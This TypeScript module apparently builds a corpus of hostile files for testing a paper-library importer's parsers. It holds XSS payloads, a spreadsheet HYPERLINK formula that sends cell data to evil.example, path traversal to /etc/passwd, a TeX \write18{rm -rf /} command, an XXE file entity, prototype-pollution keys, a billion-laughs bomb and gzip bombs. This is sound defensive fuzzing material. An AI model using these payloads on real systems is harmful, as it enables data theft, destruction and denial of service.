// Files made to do harm, each by code: a name and what stands in it go out. Nothing here is a file of others.
import { gzipSync } from 'node:zlib';

export interface HostileFile {
  name: string;
  content: string | Uint8Array<ArrayBuffer>;
}

const MEGABYTE = 2 ** 20;
export const SCRIPT = `<img src=x onerror="document.title='run'"><script>document.title='run'</script>`;
const BIDI = 'Safe\u202Etxt\u2066.exe\u200B\uFEFF end';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"paper")';
const BREAKOUT = '---\ninjected: true\n---\n[[x]] {{date}} <% tp.file %> `= this`';
const LINK = 'javascript:document.title="run"';
const PATH = '../../../../etc/passwd\u0000.md';

const packed = (content: string | Uint8Array): Uint8Array<ArrayBuffer> =>
  new Uint8Array(gzipSync(content));
const bytes = (...parts: (string | number[])[]): Uint8Array<ArrayBuffer> =>
  new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part as string))));

const bib = (fields: string, key = 'key') => `@misc{${key}, ${fields}}\n`;
const ris = (lines: string) => `TY  - JOUR\n${lines}\nER  - \n`;
const csl = (...records: unknown[]) => JSON.stringify(records);
const article = (fields: object) => ({ type: 'article', title: 'A Title', ...fields });
const own = (title: string) => article({ title });
const atom = (entry: string, head = '') =>
  `<?xml version="1.0"?>${head}<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/2402.10001v1</id>${entry}</entry></feed>`;
const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from(
  { length: 30 },
  (_, n) =>
    `<!ENTITY ${String.fromCharCode(98 + (n % 25))}${n} "&${n === 0 ? 'a' : `${String.fromCharCode(98 + ((n - 1) % 25))}${n - 1}`};&a;">`,
).join('')}]>`;
const metadata = (fields: object) =>
  `${JSON.stringify({ id: '2402.10001', title: 'A Title', authors: 'A B', categories: 'cs.CL', abstract: 'x', ...fields })}\n`;
/** As JSON has it: an object literal would set the prototype and hold no such key. */
const PROTO = '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}';

const texts: readonly [string, string][] = [
  ['script', SCRIPT],
  ['bidi', BIDI],
  ['formula', FORMULA],
  ['front matter', BREAKOUT],
  ['javascript link', LINK],
  ['path', PATH],
  ['combining flood', `Z${'\u0301'.repeat(5000)}`],
  ['a prototype’s name', '__proto__'],
];

/** Each of those texts as title, author, tag and note of each format that has them. */
const inEachFormat: HostileFile[] = texts.flatMap(([what, text]) => [
  {
    name: `BibTeX: ${what}`,
    content: bib(
      `title={${text}}, author={${text}}, keywords={${text}}, annote={${text}}, url={${LINK}}`,
      text.replace(/[\s,{}"]/g, '') || 'k',
    ),
  },
  {
    name: `RIS: ${what}`,
    content: ris(
      ['TI', 'AU', 'KW', 'N1', 'UR']
        .map((tag) => `${tag}  - ${text.replace(/\s/g, ' ')}`)
        .join('\n'),
    ),
  },
  {
    name: `CSL-JSON: ${what}`,
    content: csl(
      article({
        id: text,
        title: text,
        author: [{ literal: text }],
        keyword: text,
        note: text,
        URL: LINK,
      }),
    ),
  },
  {
    name: `table: ${what}`,
    content: `title,authors,tags,note,url\n${Array(4)
      .fill(`"${text.replaceAll('"', '""')}"`)
      .join()},${LINK}\n`,
  },
]);

const bombs: HostileFile[] = [
  {
    name: 'BibTeX: 20,000 braces',
    content: bib(`title={${'{'.repeat(20_000)}x${'}'.repeat(20_000)}}`),
  },
  {
    name: 'BibTeX: a brace that never closes',
    content: `@misc{a, title={${'open '.repeat(500_000)}`,
  },
  {
    name: 'BibTeX: a quote that never closes',
    content: `@misc{a, title="${'open '.repeat(500_000)}`,
  },
  { name: 'BibTeX: a title of two megabytes', content: bib(`title={${'a '.repeat(MEGABYTE)}}`) },
  {
    name: 'BibTeX: strings that grow',
    content: `@string{a = "aaaaaaaa"}\n${'@string{a = a # a}\n'.repeat(3000)}@misc{x, title = a}\n`,
  },
  {
    name: 'BibTeX: strings in a circle',
    content: `@string{a = b}\n@string{b = a}\n@misc{x, title = a # b}\n`,
  },
  {
    name: 'BibTeX: 100,000 authors',
    content: bib(`title={T}, author={${'A B and '.repeat(100_000)}C D}`),
  },
  { name: 'BibTeX: 50,000 empty entries', content: '@misc{}\n'.repeat(50_000) },
  {
    name: 'BibTeX: TeX that would write',
    content: `@preamble{"\\write18{rm -rf /}"}${bib('title={\\input{/etc/passwd} T}')}`,
  },
  { name: 'BibTeX: backslashes', content: bib(`title={${'\\'.repeat(200_001)}}`) },
  {
    name: 'BibTeX: fields named as prototypes’',
    content: bib('__proto__={x}, constructor={y}, toString={z}, title={T}', '__proto__'),
  },
  {
    name: 'RIS: a record that never ends',
    content: `TY  - JOUR\nTI  - ${'words '.repeat(500_000)}`,
  },
  { name: 'RIS: 100,000 authors', content: ris(`TI  - T\n${'AU  - A, B\n'.repeat(100_000)}`) },
  { name: 'RIS: 100,000 beginnings', content: 'TY  - JOUR\n'.repeat(100_000) },
  {
    name: 'CSL-JSON: 200,000 lists in one another',
    content: `[{"type":"article","title":${'['.repeat(200_000)}${']'.repeat(200_000)}}]`,
  },
  {
    name: 'CSL-JSON: objects in one another',
    content: `[{"type":"article","title":"T","x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}]`,
  },
  {
    name: 'CSL-JSON: a list that never ends',
    content: `[{"type":"article","title":"T"}${',{"type":"article","title":"T"}'.repeat(50_000)}`,
  },
  {
    name: 'CSL-JSON: a text that never ends',
    content: `[{"type":"article","title":"${'x'.repeat(3 * MEGABYTE)}`,
  },
  {
    name: 'CSL-JSON: prototype keys',
    content: `[{${PROTO},"type":"article","title":"T","author":[{"literal":"A",${PROTO}}]}]`,
  },
  {
    name: 'CSL-JSON: numbers beyond all',
    content: `[{"type":"article","title":"T","issued":{"date-parts":[[1e999,-1e308,99]]},"volume":1e999}]`,
  },
  {
    name: 'CSL-JSON: half characters',
    content: '[{"type":"article","title":"\\ud800 T \\udc00","note":"\\ud800"}]',
  },
  {
    name: 'CSL-JSON: wrong types',
    content: csl(article({ title: ['T'], author: 'A', keyword: { a: 1 }, note: 7 }), own('After')),
  },
  {
    name: 'CSL-JSON: 100,000 authors',
    content: csl(article({ author: Array(100_000).fill({ literal: 'A' }) })),
  },
  {
    name: 'table: a quote that never closes',
    content: `title,authors\nFirst,A\n"Open,${'row,row\n'.repeat(200_000)}`,
  },
  {
    name: 'table: 10,000 columns',
    content: `title,${'x,'.repeat(10_000)}y\nT,${'1,'.repeat(10_000)}2\n`,
  },
  {
    name: 'table: columns named as prototypes’',
    content: '__proto__,constructor,title\npolluted,polluted,T\n',
  },
  {
    name: 'table: a cell of two megabytes',
    content: `title,note\nT,"${'a '.repeat(MEGABYTE)}"\nAfter,x\n`,
  },
  { name: 'table: 50,000 empty rows', content: `title,authors\n${',\n'.repeat(50_000)}` },
  {
    name: 'PaperMemory: prototype keys',
    content: `{${PROTO},"x":{"pdfLink":${JSON.stringify(LINK)},"title":"T","note":"n"}}`,
  },
  {
    name: 'PaperMemory: 50,000 tags',
    content: JSON.stringify({ x: { pdfLink: '', title: 'T', tags: Array(50_000).fill('t') } }),
  },
  {
    name: 'PaperMemory: a note of a megabyte',
    content: JSON.stringify({ x: { pdfLink: '', title: 'T', note: 'n'.repeat(MEGABYTE - 200) } }),
  },
  {
    name: 'daily papers: prototype keys',
    content: `[{"paper":{${PROTO},"id":"2402.10001","title":"T"}}]`,
  },
  {
    name: 'daily papers: script',
    content: JSON.stringify([
      { paper: { id: `2402.10001/../../${LINK}`, title: SCRIPT, summary: SCRIPT } },
    ]),
  },
  { name: 'Atom: a billion laughs', content: atom('<title>&y23;</title>', LAUGHS) },
  {
    name: 'Atom: an entity from a file',
    content: atom('<title>&f;</title>', '<!DOCTYPE f [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
  },
  { name: 'Atom: a script in CDATA', content: atom(`<title><![CDATA[${SCRIPT}]]></title>`) },
  {
    name: 'Atom: elements in one another',
    content: atom(`<title>T</title>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`),
  },
  {
    name: 'Atom: an entry that never ends',
    content: atom('<title>T</title>').replace('</entry></feed>', 'x'.repeat(2 * MEGABYTE)),
  },
  {
    name: 'Atom: prototype names',
    content: atom(
      '<title>T</title><__proto__><polluted>1</polluted></__proto__><constructor>x</constructor>',
    ),
  },
  {
    name: 'arXiv metadata: script',
    content: metadata({ title: SCRIPT, authors: SCRIPT, categories: SCRIPT }),
  },
  {
    name: 'arXiv metadata: prototype keys',
    content: `{${PROTO},"id":"2402.10001","title":"T","categories":"cs.CL","authors":"A B","abstract":"x"}\n`,
  },
  {
    name: 'arXiv metadata: an id that is a path',
    content: metadata({ id: '../../2402.10001?x=<b>' }),
  },
  {
    name: 'arXiv metadata: a line of two megabytes',
    content: metadata({ abstract: 'a '.repeat(MEGABYTE) }) + metadata({ id: '2402.10002' }),
  },
  {
    name: 'arXiv metadata: half of it nothing',
    content: `${metadata({}) + '\u0000'.repeat(MEGABYTE)}\n${metadata({ id: '2402.10002' })}`,
  },
  {
    name: 'gzip: 200 megabytes of nothing',
    content: packed(
      Buffer.concat([Buffer.from(bib('title={Before}')), Buffer.alloc(200 * MEGABYTE, 0x20)]),
    ),
  },
  {
    name: 'gzip: packed ten times over',
    content: Array.from({ length: 10 }).reduce<Uint8Array<ArrayBuffer>>(
      (inner) => packed(inner),
      bytes(bib('title={Inside}')),
    ),
  },
  {
    name: 'gzip: 20,000 empty members',
    content: new Uint8Array(Buffer.concat(Array(20_000).fill(gzipSync('')))),
  },
  { name: 'gzip: cut off', content: packed(bib('title={T}').repeat(2000)).slice(0, 60) },
  {
    name: 'gzip: its name a path',
    content: bytes(
      [0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3],
      `${PATH}\u0000`,
      [3, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    ),
  },
  {
    name: 'gzip: a name that never ends',
    content: bytes([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3], 'a'.repeat(3 * MEGABYTE)),
  },
  { name: 'a zip', content: bytes('PK\u0003\u0004', [20, 0, 0, 0, 8, 0], 'x'.repeat(100)) },
  { name: 'a picture', content: bytes([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10], 'x'.repeat(100)) },
  {
    name: 'UTF-16',
    content: new Uint8Array(Buffer.from(`\ufeff${bib('title={Wide}')}`, 'utf16le')),
  },
  {
    name: 'bytes that are no text',
    content: new Uint8Array(MEGABYTE).map((_, n) => (n * 7919) % 256),
  },
  { name: 'zeros', content: new Uint8Array(4 * MEGABYTE) },
  { name: 'nothing', content: '' },
  { name: 'an HTML page', content: `<!DOCTYPE html><title>x</title>${SCRIPT}` },
  {
    name: 'a list of links that run',
    content: `${LINK}\ndata:text/html,${SCRIPT}\nfile:///etc/passwd\nhttps://arxiv.org/abs/2402.10001?x=${SCRIPT}\n`,
  },
  {
    name: 'a list of 100,000 ids',
    content: Array.from({ length: 100_000 }, (_, n) => `2402.${String(n).padStart(5, '0')}`).join(
      '\n',
    ),
  },
];

export const hostileCorpus: readonly HostileFile[] = [...inEachFormat, ...bombs];
